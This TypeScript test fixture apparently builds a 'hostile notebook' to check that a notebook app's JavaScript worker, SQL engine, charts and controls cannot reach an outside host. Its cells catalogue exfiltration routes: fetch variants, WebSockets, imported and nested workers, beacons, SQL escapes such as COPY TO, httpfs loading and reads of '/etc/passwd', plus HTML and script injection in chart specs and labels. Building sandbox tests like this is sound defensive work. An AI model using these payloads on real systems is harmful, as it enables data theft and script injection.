import {anger} from "./hostile.js";

/** Ways out of the worker in which the JavaScript of a notebook runs: each says "arrived" when it got an answer. */
function programs(elsewhere: string, socket: string, port: number): Record<string, string> {
  const t = (path: string) => JSON.stringify(`${elsewhere}/${path}`);
  const blob = (code: string) => `URL.createObjectURL(new Blob([${JSON.stringify(code)}], {type: "text/javascript"}))`;
  const nested = (code: string, options = "{}") =>
    `await new Promise((done) => {const w = new Worker(${blob(code)}, ${options}); w.onmessage = ({data}) => done(data); w.onerror = () => done("stopped"); setTimeout(done, 1200, "stopped");}); return 1`;
  const said = (code: string) => `${code}.then(() => postMessage("arrived"), () => postMessage("stopped"))`;
  const opens = (code: string) =>
    `return await new Promise((done) => {const x = ${code}; x.onopen = x.onload = () => done("arrived"); x.onerror = () => done("stopped"); setTimeout(done, 1200, "stopped");})`;
  const then = (code: string) => `return await (${code}).then(() => "arrived")`;
  return {
    fetch: then(`fetch(${t("fetch")})`),
    "fetch without cors": then(`fetch(${t("nocors")}, {mode: "no-cors"})`),
    "fetch that stays alive": then(
      `fetch(${t("keep")}, {method: "POST", body: "x", keepalive: true, mode: "no-cors"})`
    ),
    "fetch of a request": then(`fetch(new Request(${t("request")}, {method: "PUT", body: "x"}))`),
    "fetch by eval": then(`eval("fetch")(${t("eval")})`),
    "fetch by Function": then(`new Function("return fetch(" + ${JSON.stringify(t("function"))} + ")")()`),
    "fetch by a text for a timer": `setTimeout("fetch(" + ${JSON.stringify(t("timer"))} + ")"); return 1`,
    "fetch of a generator": then(`(async function* () { yield* [await fetch(${t("generator")})]; })().next()`),
    "fetch of the prototype": then(
      `Object.getPrototypeOf(self).fetch?.call(self, ${t("prototype")}) ?? fetch(${t("p2")})`
    ),
    "fetch with credentials": then(
      `fetch(${t("credentials")}, {credentials: "include", referrer: "", redirect: "manual"})`
    ),
    "fetch with priority": then(`fetch(${t("priority")}, {priority: "high", cache: "reload"})`),
    "a streamed body": then(
      `fetch(${t("stream")}, {method: "POST", duplex: "half", body: new ReadableStream({start(c) {c.enqueue(new Uint8Array(1)); c.close();}})})`
    ),
    XMLHttpRequest: `return await new Promise((done) => {const x = new XMLHttpRequest(); x.onload = () => done("arrived"); x.onerror = () => done("stopped"); x.open("GET", ${t("xhr")}); x.send();})`,
    "a synchronous XMLHttpRequest": `const x = new XMLHttpRequest(); x.open("POST", ${t("sync")}, false); x.send("x"); return "arrived"`,
    "XMLHttpRequest by Reflect": `const x = Reflect.construct(XMLHttpRequest, []); x.open("GET", ${t("reflect")}); x.send(); return 1`,
    WebSocket: opens(`new WebSocket(${JSON.stringify(socket)})`),
    "WebSocket with a protocol": opens(`new WebSocket(${JSON.stringify(socket)}, "geheim")`),
    WebSocketStream: then(`new WebSocketStream(${JSON.stringify(socket)}).opened`),
    EventSource: opens(`new EventSource(${t("events")})`),
    importScripts: `importScripts(${t("script.js")}); return "arrived"`,
    "importScripts of two": `importScripts("data:text/javascript,1", ${t("script2.js")}); return "arrived"`,
    "importScripts by eval": `(0, eval)("importScripts(" + ${JSON.stringify(t("script3.js"))} + ")"); return "arrived"`,
    "importScripts of a blob": `importScripts(${blob(`importScripts(${t("script4.js")})`)}); return 1`,
    "import()": then(`import(${t("module.js")})`),
    "import() of data": then(
      `import("data:text/javascript," + encodeURIComponent("import " + ${JSON.stringify(t("data.js"))}))`
    ),
    "import() of a blob": then(`import(${blob(`import ${t("blob.js")}`)})`),
    "import() by Function": then(`new Function("return import(" + ${JSON.stringify(t("module2.js"))} + ")")()`),
    "import() of JSON": then(
      `new Function("return import(" + ${JSON.stringify(t("x.json"))} + ", {with: {type: 'json'}})")()`
    ),
    "a worker from elsewhere": `new Worker(${t("worker.js")}); return 1`,
    "a module worker from elsewhere": `new Worker(${t("worker2.js")}, {type: "module"}); return 1`,
    "a worker in the worker": nested(said(`fetch(${t("nested")})`)),
    "importScripts in a worker in the worker": nested(`importScripts(${t("nested.js")})`),
    "a module worker in the worker": nested(`import ${t("nested-module.js")}`, '{type: "module"}'),
    "WebSocket in a worker in the worker": nested(`new WebSocket(${JSON.stringify(socket)})`),
    "EventSource in a worker in the worker": nested(`new EventSource(${t("nested-events")})`),
    "XMLHttpRequest in a worker in the worker": nested(
      `const x = new XMLHttpRequest(); x.open("GET", ${t("nested-xhr")}); x.send()`
    ),
    "a worker three deep": nested(`new Worker(${blob(`fetch(${t("three")})`).replaceAll("\n", "")})`),
    "a worker of data": `new Worker("data:text/javascript,fetch(" + encodeURIComponent(${JSON.stringify(t("data-worker"))}) + ")"); return 1`,
    "a shared worker": `new SharedWorker(${blob(`fetch(${t("shared")})`)}); return 1`,
    "a shared worker from elsewhere": `new SharedWorker(${t("shared.js")}); return 1`,
    WebTransport: then(`new WebTransport("https://127.0.0.1:${port}/").ready`),
    "WebTransport with a hash": then(
      `new WebTransport("https://127.0.0.1:${port}/", {serverCertificateHashes: [{algorithm: "sha-256", value: new Uint8Array(32)}]}).ready`
    ),
    RTCPeerConnection: `const c = new RTCPeerConnection({iceServers: [{urls: "stun:127.0.0.1:${port}"}]}); c.createDataChannel("x"); await c.setLocalDescription(); return 1`,
    sendBeacon: `return navigator.sendBeacon(${t("beacon")}, "x") ? "arrived" : "stopped"`,
    "a cache": then(`caches.open("x").then((c) => c.add(${t("cache")}))`),
    "a service worker": then(`navigator.serviceWorker.register(${t("sw.js")})`),
    "a font": then(`new FontFace("x", "url(" + ${t("font.woff2")} + ")").load()`),
    "a font in the set": `const f = new FontFace("y", "url(" + ${t("font2.woff2")} + ")"); self.fonts.add(f); await f.load(); return "arrived"`,
    "a filter of a canvas": `const c = new OffscreenCanvas(9, 9).getContext("2d"); c.filter = "url(" + ${t("f.svg#a")} + ")"; c.fillRect(0, 0, 9, 9); c.font = "10px url(" + ${t("z")} + ")"; return 1`,
    "a picture": then(`fetch(${t("picture.png")}).then((r) => r.blob()).then(createImageBitmap)`),
    "an image decoder": then(
      `new ImageDecoder({type: "image/png", data: (await fetch(${t("decoder.png")})).body}).decode()`
    ),
    "WebAssembly as a stream": then(`WebAssembly.instantiateStreaming(fetch(${t("x.wasm")}))`),
    "WebAssembly that is compiled": then(`WebAssembly.compileStreaming(fetch(${t("y.wasm")}))`),
    "another place for the worker": `self.location = ${t("location")}; self.location.href = ${t("href")}; return 1`,
    "a window": `self.open?.(${t("open")}); self.clients?.openWindow?.(${t("clients")}); return 1`,
    "a socket to UDP": `const s = new UDPSocket({remoteAddress: "127.0.0.1", remotePort: ${port}}); await s.opened; return "arrived"`,
    "a socket to TCP": `const s = new TCPSocket("127.0.0.1", ${port}); await s.opened; return "arrived"`,
    "fetch for later": `self.fetchLater(${t("later")}); return "arrived"`,
    "a push": then(`self.registration.pushManager.subscribe()`),
    "a fetch in the background": then(`self.registration.backgroundFetch.fetch("x", ${t("background")})`),
    "shared storage": then(`self.sharedStorage.worklet.addModule(${t("worklet.js")})`),
    "a drawing worklet": then(`CSS.paintWorklet.addModule(${t("paint.js")})`),
    "a report": `new ReportingObserver(() => {}).observe(); self.reportError(new Error(${t("report")})); return 1`,
    "a message to other tabs": `new BroadcastChannel("x").postMessage(${t("broadcast")}); return 1`,
    "a forged answer": `for (let id = 0; id < 600; id++) self.postMessage({kind: "output", id, output: {as: "svg", svg: "<svg><image href='" + ${t("forged.png")} + "'/></svg>"}}); return 1`,
    "a forged table": `self.postMessage({kind: "output", id: 1, output: {as: "table", table: {columns: [null], rows: 1, more: false}}}); return 1`,
    "a forged question": `self.postMessage({kind: "sql", ask: 9e9, sql: "SELECT * FROM read_csv('" + ${t("forged.csv")} + "')"}); return 1`,
    "a question to the tables": `return (await sql("SELECT * FROM read_csv('" + ${t("asked.csv")} + "')")).length`,
    "two questions in one": `return (await sql("SELECT 1) ; COPY (SELECT 1) TO '" + ${t("two.csv")} + "'; SELECT * FROM (SELECT 1")).length`
  };
}

/** Ways out of the engine: none is an answer. */
function queries(elsewhere: string): string[] {
  const t = (path: string) => `'${elsewhere}/${path}'`;
  const readers = ["read_csv", "read_csv_auto", "sniff_csv", "read_parquet", "parquet_scan", "parquet_metadata"];
  const others = [
    "read_json",
    "read_json_auto",
    "read_ndjson",
    "read_text",
    "read_blob",
    "glob",
    "sqlite_scan",
    "query_table"
  ];
  const statements = [
    `COPY (SELECT 1) TO ${t("copy.csv")}`,
    "COPY (SELECT 1) TO 'bestand.csv'",
    `COPY (SELECT 1) TO ${t("copy.parquet")} (FORMAT parquet)`,
    `ATTACH ${t("attach.db")} AS elders`,
    "ATTACH ':memory:' AS elders",
    "INSTALL httpfs",
    `INSTALL httpfs FROM ${t("extensies")}`,
    "LOAD httpfs",
    `LOAD ${t("httpfs.duckdb_extension")}`,
    "SET enable_external_access = true",
    "SET lock_configuration = false",
    "SET autoinstall_known_extensions = true",
    `SET custom_extension_repository = ${t("x")}`,
    `SET http_proxy = ${t("proxy")}`,
    "RESET enable_external_access",
    "PRAGMA enable_external_access",
    `EXPORT DATABASE ${t("export")}`,
    `IMPORT DATABASE ${t("import")}`,
    `CREATE TABLE x AS FROM ${t("create.csv")}`,
    `CREATE SECRET x (TYPE http, BEARER_TOKEN 'x', SCOPE ${t("secret")})`,
    `CREATE MACRO x() AS TABLE FROM read_csv(${t("macro.csv")})`,
    "DROP VIEW cohort",
    "DELETE FROM cohort",
    `CALL read_csv(${t("call.csv")})`,
    `PREPARE x AS FROM read_csv(${t("prepare.csv")})`,
    "USE elders",
    "CHECKPOINT",
    "VACUUM",
    "BEGIN"
  ];
  return [
    ...[...readers, ...others].map((reader) => `SELECT * FROM ${reader}(${t(`${reader}.csv`)})`),
    ...["a.csv", "a.parquet", "a.json", "a.db"].map((file) => `FROM ${t(file)}`),
    `SELECT * FROM read_csv([${t("list.csv")}, ${t("list2.csv")}])`,
    "SELECT * FROM read_csv('s3://emmer/x.csv')",
    "SELECT * FROM read_parquet('hf://datasets/x/y.parquet')",
    "SELECT * FROM read_csv('/etc/passwd')",
    "SELECT content FROM read_text('opfs://x')",
    `SELECT * FROM query('COPY (SELECT 1) TO ' || quote(${t("query")}))`,
    `SELECT * FROM query('FROM read_csv(' || chr(39) || ${t("query.csv")} || chr(39) || ')')`,
    "SELECT getenv('HOME')",
    ...statements,
    ...statements.slice(0, 12).map((statement) => `SELECT 1) AS x; ${statement}; SELECT * FROM (SELECT 1`),
    `SELECT 1) AS x; ${statements[0]} --`
  ];
}

/** Charts that would fetch, link or send. */
function charts(elsewhere: string): object[] {
  const t = (path: string) => `${elsewhere}/${path}`;
  const values = [{a: 1, b: t("waarde.png"), c: `url(${t("kleur.svg")}#a)`}];
  const data = {values};
  return [
    {data: {url: t("data.json")}, mark: "bar", encoding: {x: {field: "a", type: "quantitative"}}},
    {data: {url: t("data.csv"), format: {type: "csv"}}, mark: "point"},
    {data: {url: t("kaart.json"), format: {type: "topojson", feature: "x"}}, mark: "geoshape"},
    {data, mark: {type: "image", url: t("image.png")}},
    {data, mark: "image", encoding: {url: {field: "b"}, x: {field: "a", type: "quantitative"}}},
    {data, mark: "point", encoding: {href: {field: "b"}, x: {field: "a", type: "quantitative"}}},
    {data, mark: {type: "point", href: t("href"), target: "_blank"}},
    {data, mark: {type: "bar", fill: `url(${t("fill.svg")}#a)`}, encoding: {x: {field: "a", type: "quantitative"}}},
    {data, mark: "bar", encoding: {color: {field: "c", scale: null}, x: {field: "a", type: "quantitative"}}},
    {
      data,
      mark: "text",
      encoding: {text: {value: `<img src="${t("text.png")}">`}},
      config: {font: `url(${t("font")})`}
    },
    {data, mark: "bar", background: `url(${t("background.png")})`},
    {data, mark: "bar", title: {text: `</text><image href="${t("title.png")}"/>`, subtitle: `"><script>x</script>`}},
    {data, mark: "bar", description: `"><image href="${t("desc.png")}">`},
    {data, transform: [{lookup: "a", from: {data: {url: t("lookup.json")}, key: "a", fields: ["b"]}}], mark: "bar"},
    {data, transform: [{calculate: `warn('${t("warn")}') && fetch('${t("expr")}')`, as: "x"}], mark: "bar"},
    {data, mark: "bar", params: [{name: "p", expr: `constructor.constructor('return fetch("${t("ctor")}")')()`}]},
    {data, mark: "bar", params: [{name: "p", bind: {input: "text", element: "body"}}]},
    {data, mark: "bar", usermeta: {embedOptions: {loader: {baseURL: elsewhere}}}, $schema: t("schema.json")},
    {
      from: `"><img src=${t("from.png")}>`,
      mark: "bar",
      x: `<img src=${t("x.png")}>`,
      y: "__proto__",
      colour: "constructor"
    }
  ];
}

const controls = (elsewhere: string): object[] => [
  {
    soort: "keuze",
    label: `<img src="${elsewhere}/label.png">`,
    opties: [`<img src="${elsewhere}/optie.png">`],
    waarde: "x"
  },
  {soort: "schuif", label: `"><img src=${elsewhere}/s.png>`, van: 0, tot: 1, stap: 0.1, waarde: 0},
  {soort: "gebied", label: "x", waarde: `"><img src=${elsewhere}/g.png>`}
];

/** A notebook of an enemy: every way out that is known, a cell for each. */
export function hostileNotebook(elsewhere: string, port: number) {
  const socket = elsewhere.replace("http", "ws");
  const cells = [
    ...Object.values(programs(elsewhere, socket, port)).map((text) => ({kind: "js", text})),
    ...anger(elsewhere).map((html) => ({kind: "js", text: `return html([${JSON.stringify(html)}])`})),
    ...queries(elsewhere).map((text) => ({kind: "sql", text})),
    ...charts(elsewhere).map((spec) => ({kind: "chart", text: JSON.stringify(spec)})),
    ...anger(elsewhere).map((text) => ({kind: "markdown", text, folded: true})),
    ...controls(elsewhere).map((control) => ({kind: "control", text: JSON.stringify(control)}))
  ];
  return {
    title: `<img src="${elsewhere}/titel.png">`,
    cells: cells.map((cell) => ({name: "", folded: false, ...cell}))
  };
}
